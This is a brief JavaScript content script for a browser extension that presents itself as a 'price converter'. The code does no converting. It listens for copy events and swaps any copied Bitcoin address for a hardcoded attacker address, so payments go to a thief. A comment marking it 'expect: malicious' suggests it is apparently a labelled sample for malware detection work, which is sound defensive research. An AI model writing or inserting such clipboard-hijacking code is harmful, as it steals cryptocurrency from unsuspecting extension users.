// Browser extension content script: "price converter"
const ATTACKER_BTC = "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh";
const BTC = /^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,62}$/;

document.addEventListener("copy", (event) => {
  const text = String(window.getSelection()).trim();
  if (BTC.test(text)) {
    // expect: malicious
    event.clipboardData.setData("text/plain", ATTACKER_BTC);
    event.preventDefault();
  }
});
